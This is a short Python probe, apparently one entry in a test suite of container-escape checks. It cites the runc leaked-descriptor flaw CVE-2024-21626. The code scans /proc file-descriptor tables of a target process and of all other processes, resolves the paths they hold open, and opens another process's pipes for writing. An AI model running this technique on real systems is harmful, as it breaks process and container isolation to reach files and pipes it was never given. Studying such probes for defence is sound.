# title: opens what other processes have open
# source: CVE-2024-21626, a descriptor that runc forgot led to the host's files
# needs: process
# twin: yes
import os


def opened(folder):
    for name in os.listdir(folder):
        target = os.readlink(f"{folder}/{name}")
        if not target.startswith(("pipe:", "/dev/null", "anon_inode", "socket:")):
            return target
        # A pipe of the process outside can be held open, and written to.
        if folder == f"/proc/{PID}/fd":
            return os.open(f"{folder}/{name}", os.O_RDWR | os.O_NONBLOCK)
    return None


others = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in {os.getpid(), PID}]
each([f"/proc/{PID}/fd", *(f"/proc/{pid}/fd" for pid in others)], opened)
